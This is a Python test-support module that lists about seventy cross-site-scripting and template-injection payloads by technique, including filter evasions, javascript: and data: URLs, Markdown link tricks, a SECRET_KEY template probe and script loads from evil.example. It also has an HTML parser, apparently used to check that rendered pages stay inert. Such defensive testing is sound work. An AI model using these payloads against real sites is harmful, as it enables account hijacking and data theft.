"""Text that wants to become code. Every page shows it as it stands."""

import itertools
from collections.abc import Iterator
from html.parser import HTMLParser

CALL = "window.__xss=1"

TRICKS = {
    "an element that runs": (
        f"<script>{CALL}</script>",
        f"<SCRIPT SRC=//evil.example/x.js>{CALL}</SCRIPT>",
    ),
    "out of the element around it": (
        f"</title><script>{CALL}</script>",
        f"</textarea><script>{CALL}</script>",
        f"</script><script>{CALL}</script>",
        f"</style><script>{CALL}</script>",
        f"--><script>{CALL}</script>",
        f"]]><script>{CALL}</script>",
    ),
    "a script that a filter does not see": (
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<script\x0b>{CALL}</script>",
        f"<script/x>{CALL}</script>",
        f"<<script>{CALL}//<</script>",
    ),
    "a picture": (
        f"<img src=x onerror={CALL}>",
        f"<img src=x:x onerror\n=\n{CALL}>",
        f'<img """><script>{CALL}</script>">',
        f"<image href=x onerror={CALL}>",
    ),
    "SVG": (
        f"<svg onload={CALL}>",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg/onload={CALL}//",
        f'<svg><a xlink:href="javascript:{CALL}"><text x=1 y=9>x</text></a></svg>',
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
    ),
    "MathML": (
        f'<math><mtext><table><mglyph><style><img src onerror="{CALL}">',
        f"<math href='javascript:{CALL}'>x</math>",
    ),
    "a page within the page": (
        f"<body onload={CALL}>",
        f"<iframe src=javascript:{CALL}></iframe>",
        f"<iframe srcdoc='&lt;script&gt;{CALL}&lt;/script&gt;'></iframe>",
        f"<object data=javascript:{CALL}></object>",
        f"<embed src=javascript:{CALL}>",
    ),
    "a form": (
        f"<form><button formaction=javascript:{CALL}>x</button></form>",
        f"<form action=javascript:{CALL}><input type=submit></form>",
        f"<input autofocus onfocus={CALL}>",
    ),
    "a handler that needs nobody": (
        f"<details open ontoggle={CALL}>x</details>",
        f"<video><source onerror={CALL}></video>",
        f"<audio src=x onerror={CALL}>",
        f"<marquee onstart={CALL}>x</marquee>",
    ),
    "an address that runs": (
        f"<a href=javascript:{CALL}>x</a>",
        f'<a href="java\tscript:{CALL}">x</a>',
        f'<a href="&#106;avascript:{CALL}">x</a>',
        f'<a href="data:text/html,<script>{CALL}</script>">x</a>',
    ),
    "what stands in a page's head": (
        f'<base href="//evil.example/"><a href=x>{CALL}</a>',
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        f'<style>@import "javascript:{CALL}";</style>',
        f'<p style="background:url(javascript:{CALL})">x</p>',
    ),
    "text that is none": (
        f"<template><script>{CALL}</script></template>",
        f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
        f"<xmp><script>{CALL}</script></xmp>",
        f"<isindex type=image src=1 onerror={CALL}>",
    ),
    "out of an attribute": (
        f'" onmouseover="{CALL}" x="',
        f"' onmouseover='{CALL}' x='",
        f'" autofocus onfocus="{CALL}',
    ),
    "out of an attribute and its element": (
        f'"><img src=x onerror={CALL}>',
        f"'><img src=x onerror={CALL}>",
        f"`><img src=x onerror={CALL}>",
    ),
    "an address alone": (
        f"javascript:{CALL}",
        f"jAvAsCrIpT:{CALL}//https://example.org",
    ),
    "a link of Markdown": (
        f"[x](javascript:{CALL})",
        f"[x](JaVaScRiPt:{CALL})",
        f"[x](java&#115;cript:{CALL})",
        f"[x](java\nscript:{CALL})",
        f"[x](&#x6A;avascript&colon;{CALL})",
        f"[x](vbscript:{CALL})",
        f"[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg== '{CALL}')",
    ),
    "what follows the address of a link": (
        f'[x](https://example.org "title" onmouseover="{CALL}")',
        f'[x](https://example.org"onmouseover="{CALL})',
        f"[x]: javascript:{CALL}\n\n[x]",
    ),
    "an address in angle brackets": (
        f"<javascript:{CALL}>",
        f'<https://example.org/?"onmouseover={CALL}>',
    ),
    "a picture of Markdown": (
        f"![x](javascript:{CALL})",
        f'![x](https://evil.example/x.png"onerror="{CALL})',
        "![tracker](https://evil.example/pixel.png)",
    ),
    "an address in the text": (
        f'https://example.org/"onmouseover="{CALL}',
        f"https://example.org/<script>{CALL}</script>",
        f"javascript://example.org/%0a{CALL}",
    ),
    "code, and a table": (
        f"```<script>{CALL}</script>\n<script>{CALL}</script>\n```",
        f"`<script>{CALL}</script>`",
        f"|a|\n|-|\n|<img src=x onerror={CALL}>|",
    ),
    "escaped already": (
        f"&lt;script&gt;{CALL}&lt;/script&gt;",
        f"\\<script>{CALL}\\</script>",
    ),
    "other letters": (
        f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
        f"＜script＞{CALL}＜/script＞",
    ),
    "a template": (
        "{{7*7}}{% debug %}{{settings.SECRET_KEY}}",
        f"{{{{constructor.constructor('{CALL}')()}}}}",
        f"${{{CALL}}}#{{{CALL}}}",
    ),
    "htmx": (
        f"hx-on:click={CALL}",
        f'<div hx-get="/x" hx-trigger="load" hx-on::load="{CALL}">x</div>',
    ),
    "right to left": ("\u202egnp.<script>\u202c",),
}
PAYLOADS = tuple(itertools.chain(*TRICKS.values()))
SAMPLE = tuple(payloads[0] for payloads in TRICKS.values())

SCHEMES = ("http://", "https://", "mailto:", "/", "#", "?")
ADDRESSES = {"href", "src", "action", "formaction", "srcset", "data", "poster", "xlink:href"}


class Skeleton(HTMLParser):
    """What a page consists of, apart from its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    @property
    def shape(self) -> list[tuple[str, list[str]]]:
        return [(tag, list(attributes)) for tag, attributes in self.elements]

    def addresses(self) -> Iterator[str]:
        for _, attributes in self.elements:
            yield from (value for name, value in attributes.items() if name in ADDRESSES)
